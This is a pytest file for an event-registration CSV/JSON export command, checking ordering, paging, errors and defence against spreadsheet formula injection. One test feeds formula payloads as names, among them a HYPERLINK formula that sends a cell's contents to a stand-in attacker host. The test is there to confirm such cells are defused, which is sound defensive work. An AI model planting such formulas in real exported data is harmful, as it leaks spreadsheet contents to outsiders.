"""``eventsapi registrations export``: an event's registrations for its organiser, as CSV or
JSON, on SQLite and PostgreSQL; CSV cells a spreadsheet would run as formulas are defused."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from collections.abc import Awaitable, Callable, Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any, TypeVar

import pytest
from click.testing import CliRunner, Result

from eventsapi import storage
from eventsapi.cli import main
from eventsapi.domain.registrations import applicant
from eventsapi.registrations_export import spreadsheet_text
from eventsapi.settings import Settings
from eventsapi.storage import Backend
from tests.contract.test_event_store import event
from tests.support import START, postgres_schema

T = TypeVar("T")
HEADER = ["id", "status", "position", "name", "email", "created_at", "updated_at"]


@pytest.fixture(params=["sqlite", "postgres"])
def database(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[str]:
    if request.param == "postgres":
        with postgres_schema() as url:
            yield url
    else:
        yield str(tmp_path / "events.db")


def with_store(database: str, action: Callable[[Backend], Awaitable[T]]) -> T:
    async def run() -> T:
        store = storage.load(database, Settings(database=database))
        await store.open()
        try:
            return await action(store)
        finally:
            await store.close()

    return asyncio.run(run())


def registrants(database: str, event_id: str, names: list[str], *, capacity: int) -> list[str]:
    """Make the event and register ``names`` in order (``n@example.org``); their ids."""

    async def make(store: Backend) -> list[str]:
        await store.create(event(event_id, capacity=capacity))
        ids = []
        for n, name in enumerate(names):
            who = applicant(
                registration_id=f"r{event_id}{n:03d}",
                name=name,
                email=f"p{n}@example.org",
                account=None,
                token_hash=None,
                at=START + timedelta(minutes=n),
            )
            ids.append((await store.register(event_id, who)).id)
        return ids

    return with_store(database, make)


def cancel(database: str, event_id: str, registration_id: str) -> None:
    async def run(store: Backend) -> None:
        await store.cancel_registration(event_id, registration_id, at=START + timedelta(hours=1))

    with_store(database, run)


def export(runner: CliRunner, database: str, *args: str) -> Result:
    return runner.invoke(main, ["registrations", "export", *args, "--database", database])


def rows(result: Result) -> list[dict[str, str]]:
    assert result.exit_code == 0, result.output
    assert result.stdout_bytes.startswith(b'"id","status"')
    assert b"\r\n" in result.stdout_bytes  # RFC 4180 line ends
    reader = csv.reader(io.StringIO(result.stdout_bytes.decode(), newline=""))
    header, *lines = list(reader)
    assert header == HEADER
    return [dict(zip(header, line, strict=True)) for line in lines]


def test_csv_lists_who_comes_in_the_order_they_joined(runner: CliRunner, database: str) -> None:
    made = registrants(database, "e", ["Ada", "Bo", "Cy", "Di"], capacity=2)
    cancel(database, "e", made[0])  # Cy is promoted; Di is first on the waitlist

    listed = rows(export(runner, database, "e"))

    assert [(r["name"], r["status"], r["position"]) for r in listed] == [
        ("Bo", "confirmed", ""),
        ("Cy", "confirmed", ""),
        ("Di", "waitlisted", "1"),
    ]
    assert listed[0]["email"] == "p1@example.org"
    assert listed[0]["id"] == made[1]
    assert listed[0]["created_at"] == "2025-01-02T03:05:05.678000Z"


def test_all_adds_the_cancelled_in_their_place(runner: CliRunner, database: str) -> None:
    made = registrants(database, "e", ["Ada", "Bo"], capacity=5)
    cancel(database, "e", made[0])

    listed = rows(export(runner, database, "e", "--all"))

    assert [(r["name"], r["status"]) for r in listed] == [("Ada", "cancelled"), ("Bo", "confirmed")]
    assert listed[0]["updated_at"] == "2025-01-02T04:04:05.678000Z"  # when it was cancelled


def test_json_is_an_array_of_the_same_registrations(runner: CliRunner, database: str) -> None:
    registrants(database, "e", ["Ada", "=Bo"], capacity=1)

    result = export(runner, database, "e", "--format", "json")

    assert result.exit_code == 0, result.output
    listed: list[dict[str, Any]] = json.loads(result.stdout)
    assert [(r["name"], r["status"], r["position"]) for r in listed] == [
        ("Ada", "confirmed", None),
        ("=Bo", "waitlisted", 1),  # JSON is not for spreadsheets: as it is
    ]
    assert list(listed[0]) == HEADER


def test_an_event_without_registrations_is_a_header_or_an_empty_array(
    runner: CliRunner, database: str
) -> None:
    registrants(database, "e", [], capacity=1)

    assert rows(export(runner, database, "e")) == []
    empty = export(runner, database, "e", "--format", "json")
    assert empty.exit_code == 0, empty.output
    assert json.loads(empty.stdout) == []


@pytest.mark.parametrize("count", [4, 5])
def test_many_registrations_come_page_by_page_in_order(
    runner: CliRunner, database: str, monkeypatch: pytest.MonkeyPatch, count: int
) -> None:
    monkeypatch.setattr("eventsapi.registrations_export.PAGE", 2)  # full pages, and a part one
    names = [f"Person {n}" for n in range(count)]
    registrants(database, "e", names, capacity=2)

    listed = rows(export(runner, database, "e"))
    as_json = json.loads(export(runner, database, "e", "--format", "json").stdout)

    assert [r["name"] for r in listed] == names
    assert [r["name"] for r in as_json] == names
    assert [r["position"] for r in listed] == ["", "", *(str(n + 1) for n in range(count - 2))]


def test_an_unknown_or_trashed_event_is_an_error(runner: CliRunner, database: str) -> None:
    registrants(database, "e", ["Ada"], capacity=1)

    async def trash(store: Backend) -> None:
        await store.delete("e")

    with_store(database, trash)
    for event_id in ("nope", "e"):
        result = export(runner, database, event_id)
        assert result.exit_code == 1
        assert f"No event with id '{event_id}'" in result.output
        assert result.stdout == ""


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+1",
        "-2+3",
        "@SUM(1,1)",
        "\uff1d1+1",  # a full-width =
        'Ann "the, organiser"',  # quotes and commas stay data
        "Ann\n=1+1",  # a second line starting a formula stays inside the quoted cell
    ],
)
def test_csv_cells_never_start_a_formula(runner: CliRunner, database: str, name: str) -> None:
    registrants(database, "e", [name], capacity=1)

    (row,) = rows(export(runner, database, "e"))

    assert row["name"] == spreadsheet_text(name)
    assert row["name"][:1] not in {"=", "+", "-", "@", "\uff1d"}
    assert row["name"].lstrip("'") == name


def test_spreadsheet_text_defuses_formula_starts_only() -> None:
    assert spreadsheet_text("Ada Lovelace") == "Ada Lovelace"
    assert spreadsheet_text("a-b@example.org") == "a-b@example.org"
    assert spreadsheet_text("=1+1") == "'=1+1"
    assert spreadsheet_text("-1") == "'-1"
    assert spreadsheet_text("@x@example.org") == "'@x@example.org"
    assert spreadsheet_text("\t=1") == "'\t=1"
    assert spreadsheet_text(" =1") == "' =1"  # white space before it does not hide one


def test_output_writes_a_file_and_a_failure_leaves_it_as_it_was(
    runner: CliRunner, database: str, tmp_path: Path
) -> None:
    registrants(database, "e", ["Ada"], capacity=1)
    target = tmp_path / "out.csv"

    written = export(runner, database, "e", "--output", str(target))
    assert written.exit_code == 0, written.output
    assert written.stdout == ""
    assert target.read_bytes().startswith(b'"id","status"')
    before = target.read_bytes()

    failed = export(runner, database, "nope", "--output", str(target))
    assert failed.exit_code == 1
    assert target.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_a_missing_sqlite_database_is_an_error(runner: CliRunner, tmp_path: Path) -> None:
    result = export(runner, str(tmp_path / "none.db"), "e")
    assert result.exit_code == 1
    assert "There is no database" in result.output
